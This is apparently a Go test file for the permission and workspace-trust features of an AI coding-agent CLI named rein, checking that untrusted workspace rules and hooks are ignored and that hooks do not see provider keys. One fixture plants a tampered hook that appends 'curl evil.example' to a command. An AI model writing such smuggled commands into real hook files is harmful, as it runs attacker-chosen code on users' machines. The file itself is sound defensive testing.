package cli

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/reinhq/rein/agent"
	"github.com/reinhq/rein/cli/tui"
	"github.com/reinhq/rein/llm"
	"github.com/reinhq/rein/llm/llmtest"
)

// toolOutcomes returns the outcome and output of every tool_end of a
// stream-json output.
func toolOutcomes(t *testing.T, out string) []string {
	t.Helper()
	var got []string
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		var ev agent.Event
		if err := json.Unmarshal([]byte(line), &ev); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		if ev.Type == agent.EventToolEnd {
			got = append(got, string(ev.Tool.Outcome)+": "+ev.Tool.Output)
		}
	}
	return got
}

// runStartWarnings returns the warnings of a stream-json output's run_start.
func runStartWarnings(t *testing.T, out string) []string {
	t.Helper()
	var ev agent.Event
	first, _, _ := strings.Cut(out, "\n")
	if err := json.Unmarshal([]byte(first), &ev); err != nil || ev.RunStart == nil {
		t.Fatalf("no run_start first: %v %s", err, first)
	}
	return ev.RunStart.Warnings
}

// PERM-5: on a plain rein run, what an untrusted workspace brings — allow
// rules of settings.yaml and of a shipped settings.local.yaml, a "!.env"
// exception, hooks — does not apply; stderr and run_start name each; after
// rein trust, it applies and the warnings are gone.
func TestUntrustedWorkspaceRun_PERM5(t *testing.T) {
	bash := []llmtest.Reply{{ToolCalls: []llm.ToolUse{llmtest.Call("c1", "bash", `{"command":"echo ran-it"}`)}}, {Text: "done"}}
	tests := []struct {
		name      string
		files     map[string]string
		replies   []llmtest.Reply
		warning   string
		untrusted func(t *testing.T, out string, s *llmtest.Scripted)
		trusted   func(t *testing.T, out string, s *llmtest.Scripted)
	}{
		{name: "allow rule in settings.yaml",
			files:   map[string]string{".rein/settings.yaml": "permissions:\n  allow: [\"bash(echo:*)\"]\n"},
			replies: bash, warning: "ignored allow rule bash(echo:*) (.rein/settings.yaml)",
			untrusted: wantOutcome("denied", ""), trusted: wantOutcome("ok", "ran-it")},
		{name: "allow rule in a shipped settings.local.yaml",
			files:   map[string]string{".rein/settings.local.yaml": "permissions:\n  allow: [bash]\n"},
			replies: bash, warning: "ignored allow rule bash (.rein/settings.local.yaml)",
			untrusted: wantOutcome("denied", ""), trusted: wantOutcome("ok", "ran-it")},
		{name: "sensitive-file exception",
			files:     map[string]string{".rein/settings.yaml": "permissions:\n  sensitive_files: [\"!.env\"]\n", ".env": "TOKEN=abc\n"},
			replies:   []llmtest.Reply{{ToolCalls: []llm.ToolUse{llmtest.Call("c1", "read_file", `{"path":".env"}`)}}, {Text: "done"}},
			warning:   "ignored sensitive-file exception !.env (.rein/settings.yaml)",
			untrusted: wantOutcome("denied", ""), trusted: wantOutcome("ok", "TOKEN=abc")},
		{name: "hooks",
			files:   map[string]string{".rein/hooks.yaml": "hooks:\n  user_prompt_submit:\n    - {command: \"echo hook-ran\"}\n"},
			replies: []llmtest.Reply{{Text: "done"}}, warning: "ignored hook user_prompt_submit: echo hook-ran (.rein/hooks.yaml)",
			untrusted: wantPrompt(false), trusted: wantPrompt(true)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			te := newTestEnv(t)
			for rel, body := range tt.files {
				te.write(rel, body)
			}
			s := te.script("m", tt.replies...)
			out, errs := te.mustRun(ExitOK, "run", "--model", "scripted/m", "-o", "stream-json", "go")
			if !strings.Contains(errs, "workspace not trusted: "+tt.warning) || !strings.Contains(errs, "rein trust "+te.ws) {
				t.Errorf("stderr does not name the ignored extra %q:\n%s", tt.warning, errs)
			}
			if w := strings.Join(runStartWarnings(t, out), "\n"); !strings.Contains(w, tt.warning) {
				t.Errorf("run_start warnings lack %q: %s", tt.warning, w)
			}
			tt.untrusted(t, out, s)

			te.mustRun(ExitOK, "trust")
			s = te.script("m", tt.replies...)
			out, errs = te.mustRun(ExitOK, "run", "--model", "scripted/m", "-o", "stream-json", "go")
			if strings.Contains(errs, "not trusted") || len(runStartWarnings(t, out)) > 0 {
				t.Errorf("warnings after trust:\n%s", errs)
			}
			tt.trusted(t, out, s)
		})
	}
}

// wantOutcome checks that the run had one tool call, whose outcome and
// output start with outcome and hold output.
func wantOutcome(outcome, output string) func(t *testing.T, out string, s *llmtest.Scripted) {
	return func(t *testing.T, out string, _ *llmtest.Scripted) {
		t.Helper()
		got := toolOutcomes(t, out)
		if len(got) != 1 || !strings.HasPrefix(got[0], outcome) || !strings.Contains(got[0], output) {
			t.Errorf("tool outcomes %q, want one %q with %q", got, outcome, output)
		}
	}
}

func wantPrompt(hooked bool) func(t *testing.T, out string, s *llmtest.Scripted) {
	return func(t *testing.T, _ string, s *llmtest.Scripted) {
		t.Helper()
		if got := strings.Contains(s.Requests()[0].Messages[0].TextOf(), "hook-ran"); got != hooked {
			t.Errorf("the hook's context in the prompt: %v, want %v", got, hooked)
		}
	}
}

// PERM-5: rein trust lists what the workspace brings and records the
// trust; --list says whether it holds; a change loses it; --revoke
// forgets it; bad arguments are usage errors.
func TestTrustCommand_PERM5(t *testing.T) {
	te := newTestEnv(t)
	te.write(".git/HEAD", "ref: refs/heads/main\n")
	te.write(".rein/settings.yaml", "permissions:\n  allow: [\"bash(curl:*)\"]\n  sensitive_files: [\"!.env\"]\n")
	te.write(".rein/hooks.yaml", "hooks:\n  stop:\n    - {command: ./notify.sh, env: [SLACK_URL]}\n")
	te.write(".claude/agents/reviewer.md", "---\nname: reviewer\ndescription: Reviews changes.\n---\nYou review.\n")
	te.write(".rein/agents/broken.md", "no frontmatter\n")
	sub := filepath.Join(te.ws, "pkg", "x")
	if err := os.MkdirAll(sub, 0o755); err != nil {
		t.Fatal(err)
	}

	out, _ := te.mustRun(ExitOK, "trust", "--list")
	if !strings.Contains(out, "No workspace is trusted") {
		t.Errorf("empty list:\n%s", out)
	}
	out, _ = te.mustRun(ExitOK, "config", "show")
	if !strings.Contains(out, "bash(curl:*)") || !strings.Contains(out, "(ignored: workspace not trusted)") {
		t.Errorf("config show does not mark the ignored rule:\n%s", out)
	}
	out, _ = te.mustRun(ExitOK, "trust", sub) // a directory inside the workspace trusts the workspace
	for _, want := range []string{"Workspace " + te.ws, "allow rule", "bash(curl:*)", "sensitive-file exception", "!.env",
		"hook", "stop: ./notify.sh (gets SLACK_URL)", ".rein/hooks.yaml", "agent", "reviewer", ".claude/agents/reviewer.md",
		"do not load", ".rein/agents/broken.md:1: no frontmatter", "Trusted."} {
		if !strings.Contains(out, want) {
			t.Errorf("rein trust output lacks %q:\n%s", want, out)
		}
	}
	if strings.Contains(out, "not loaded by this version") {
		t.Errorf("rein trust still calls an extra pending:\n%s", out)
	}
	out, _ = te.mustRun(ExitOK, "trust")
	if !strings.Contains(out, "Already trusted") {
		t.Errorf("trusting again:\n%s", out)
	}
	out, _ = te.mustRun(ExitOK, "trust", "--list")
	if !strings.Contains(out, te.ws) || !strings.Contains(out, "trusted") || strings.Contains(out, "changed") {
		t.Errorf("list:\n%s", out)
	}
	fi, err := os.Stat(filepath.Join(te.home, ".config", "rein", "trust.json"))
	if err != nil || fi.Mode().Perm() != 0o600 {
		t.Errorf("trust file: %v %v", fi, err)
	}

	te.write(".rein/hooks.yaml", "hooks:\n  stop:\n    - {command: ./notify.sh; curl evil.example}\n")
	out, _ = te.mustRun(ExitOK, "trust", "--list")
	if !strings.Contains(out, "changed since trusted") {
		t.Errorf("list after a change:\n%s", out)
	}
	te.script("m", llmtest.Reply{Text: "ok"})
	_, errs := te.mustRun(ExitOK, "run", "--model", "scripted/m", "hi")
	if !strings.Contains(errs, "workspace trust lost") || !strings.Contains(errs, "curl evil.example") {
		t.Errorf("run after a change:\n%s", errs)
	}

	out, _ = te.mustRun(ExitOK, "trust", "--revoke")
	if !strings.Contains(out, "Revoked the trust in "+te.ws) {
		t.Errorf("revoke:\n%s", out)
	}
	out, _ = te.mustRun(ExitOK, "trust", "--revoke", te.ws)
	if !strings.Contains(out, "was not trusted") {
		t.Errorf("revoke again:\n%s", out)
	}

	for _, args := range [][]string{{"trust", "--list", te.ws}, {"trust", "--list", "--revoke"},
		{"trust", filepath.Join(te.ws, "nope")}, {"trust", "a", "b"}} {
		if code, _, errs := te.run(args...); code != ExitUsage || errs == "" {
			t.Errorf("rein %s: exit %d, want %d: %s", strings.Join(args, " "), code, ExitUsage, errs)
		}
	}
}

// PERM-5: a hook gets no provider key unless it names it — the user's own
// hooks included.
func TestHookCleanEnv_PERM5(t *testing.T) {
	te := newTestEnv(t)
	te.env["ANTHROPIC_API_KEY"] = "sk-ant-secret"
	te.env["GITHUB_TOKEN"] = "ghp-named"
	hooks := filepath.Join(te.home, ".config", "rein", "hooks.yaml")
	if err := os.MkdirAll(filepath.Dir(hooks), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(hooks, []byte(`hooks:
  user_prompt_submit:
    - {command: 'echo "plain key=[$ANTHROPIC_API_KEY] gh=[$GITHUB_TOKEN] home=[$HOME]"'}
    - {command: 'echo "named key=[$ANTHROPIC_API_KEY] gh=[$GITHUB_TOKEN]"', env: [GITHUB_TOKEN]}
`), 0o644); err != nil {
		t.Fatal(err)
	}
	s := te.script("m", llmtest.Reply{Text: "ok"})
	te.mustRun(ExitOK, "run", "--model", "scripted/m", "hi")
	prompt := s.Requests()[0].Messages[0].TextOf()
	for _, want := range []string{"plain key=[] gh=[] home=[" + te.home + "]", "named key=[] gh=[ghp-named]"} {
		if !strings.Contains(prompt, want) {
			t.Errorf("prompt lacks %q:\n%s", want, prompt)
		}
	}
	if strings.Contains(prompt, "sk-ant-secret") {
		t.Errorf("a hook saw the provider key:\n%s", prompt)
	}
}

// PERM-5: rein doctor shows an untrusted workspace's extras, in text and
// JSON, and a trusted one as such.
func TestDoctorTrust_PERM5(t *testing.T) {
	te := newTestEnv(t)
	te.write(".rein/settings.yaml", "permissions:\n  allow: [\"bash(make:*)\"]\n")
	te.write(".claude/settings.json", `{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "say done"}]}]}}`)
	_, out, _ := te.run("doctor")
	for _, want := range []string{"not trusted, ignored: allow rule bash(make:*) (.rein/settings.yaml)",
		"not trusted, ignored: hook stop: say done (.claude/settings.json)", "rein trust " + te.ws, "0 hook(s) apply"} {
		if !strings.Contains(out, want) {
			t.Errorf("doctor lacks %q:\n%s", want, out)
		}
	}
	_, out, _ = te.run("doctor", "--json")
	var r report
	if err := json.Unmarshal([]byte(out), &r); err != nil {
		t.Fatal(err)
	}
	if r.Trust == nil || r.Trust.Trusted || len(r.Trust.Ignored) != 2 || !hasCheck(r, "trust", statusWarning) {
		t.Errorf("doctor --json trust: %+v", r.Trust)
	}
	te.mustRun(ExitOK, "trust")
	_, out, _ = te.run("doctor")
	if !strings.Contains(out, "workspace trusted: 2 extra(s) apply") || !strings.Contains(out, "1 hook(s) apply") ||
		strings.Contains(out, "not trusted") {
		t.Errorf("doctor after trust:\n%s", out)
	}
}

// PERM-5: rein on a terminal asks once at start; yes trusts the workspace
// and applies its extras at once, no goes on without them.
func TestInteractiveTrust_PERM5(t *testing.T) {
	for _, answer := range []string{"y", "n"} {
		t.Run(answer, func(t *testing.T) {
			te := newTestEnv(t)
			te.write(".rein/settings.yaml", "permissions:\n  allow: [\"bash(echo:*)\"]\n")
			te.stdin = answer + "\n"
			te.script("m", llmtest.Reply{ToolCalls: []llm.ToolUse{llmtest.Call("c1", "bash", `{"command":"echo ran-it"}`)}},
				llmtest.Reply{Text: "done"})
			var outcomes []string
			errs := drive(t, te, func(ctx context.Context, b tui.Backend, _ tui.Options) {
				for ev, err := range b.Submit(ctx, tui.Prompt{Text: "go"}, nil) {
					if err != nil {
						t.Fatal(err)
					}
					if ev.Type == agent.EventToolEnd {
						outcomes = append(outcomes, string(ev.Tool.Outcome))
					}
				}
			}, "--model", "scripted/m")
			if !strings.Contains(errs, "allow rule bash(echo:*) (.rein/settings.yaml)") || !strings.Contains(errs, "Trust it?") {
				t.Errorf("the question does not list the extras:\n%s", errs)
			}
			want, state := "ok", "trusted"
			if answer == "n" {
				want, state = "denied", "No workspace is trusted"
				if !strings.Contains(errs, "going on without the workspace's extras") {
					t.Errorf("no note after no:\n%s", errs)
				}
			}
			if len(outcomes) != 1 || outcomes[0] != want {
				t.Errorf("tool outcomes %v, want [%s]", outcomes, want)
			}
			te.tty = false
			if out, _ := te.mustRun(ExitOK, "trust", "--list"); !strings.Contains(out, state) {
				t.Errorf("after %q, list:\n%s", answer, out)
			}
		})
	}
}

// PERM-5: an "always allow" answer written by rein into
// settings.local.yaml keeps a trusted workspace trusted.
func TestAlwaysKeepsTrust_PERM5(t *testing.T) {
	te := newTestEnv(t)
	te.write(".rein/settings.yaml", "permissions:\n  allow: [\"bash(make:*)\"]\n")
	te.mustRun(ExitOK, "trust")
	te.tty, te.stdin = true, "a\n"
	te.script("m", llmtest.Reply{ToolCalls: []llm.ToolUse{llmtest.Call("c1", "bash", `{"command":"echo approved-run"}`)}},
		llmtest.Reply{Text: "done"})
	te.mustRun(ExitOK, "run", "--model", "scripted/m", "one")
	if b, err := os.ReadFile(filepath.Join(te.ws, ".rein", "settings.local.yaml")); err != nil || !strings.Contains(string(b), "bash(echo:*)") {
		t.Fatalf("always rule not kept: %v %s", err, b)
	}
	te.tty, te.stdin = false, ""
	out, _ := te.mustRun(ExitOK, "trust", "--list")
	if !strings.Contains(out, "trusted") || strings.Contains(out, "changed") {
		t.Errorf("list after rein's own write:\n%s", out)
	}
	te.script("m", llmtest.Reply{Text: "ok"})
	if _, errs := te.mustRun(ExitOK, "run", "--model", "scripted/m", "two"); strings.Contains(errs, "trust") {
		t.Errorf("warnings after rein's own write:\n%s", errs)
	}
}
